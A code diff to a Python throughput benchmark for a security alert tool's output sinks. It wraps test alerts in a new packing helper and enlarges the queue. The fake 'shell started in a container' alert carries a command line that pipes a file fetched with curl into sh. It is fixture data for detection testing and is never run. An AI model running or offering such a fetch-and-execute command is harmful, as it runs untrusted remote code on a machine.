@@ -31,6 +31,7 @@ from mozu.plugins.sinks.program import ProgramSettings, ProgramSink
 from mozu.plugins.sinks.stdout import StdoutSink
 from mozu.plugins.sinks.syslog import SyslogSettings, SyslogSink
 from tests.support.journald import journald
+from tests.support.packing import packed
 from tests.support.rsyslog import Certificates, rsyslog
 
 Made = tuple[Sink, bool]
@@ -140,12 +141,12 @@ SINKS: dict[str, Callable[[], Any]] = {
 async def measure(sink: Sink, count: int, *, blocking: bool) -> float:
     """Alerts a second."""
     metrics = Metrics()
-    queue = MemoryQueue(count, metrics)
+    queue = MemoryQueue(1 << 30, metrics)
     isolated = Isolated("sink", "measured", sink, metrics, blocking=blocking)
     worker = SinkWorker(isolated, FalcoJson(), queue, agent="host", on_closed=print)
     values = {"proc.cmdline": "bash -c 'curl http://example.com/x | sh'", "proc.name": "bash", "user.name": "root"}
     for _ in range(count):
-        worker.accept(alert("A shell was started", "Shell started in a container", **values))
+        worker.accept(packed(alert("A shell was started", "Shell started in a container", **values)))
     await worker.start()
     queue.close()
     begin = time.perf_counter()
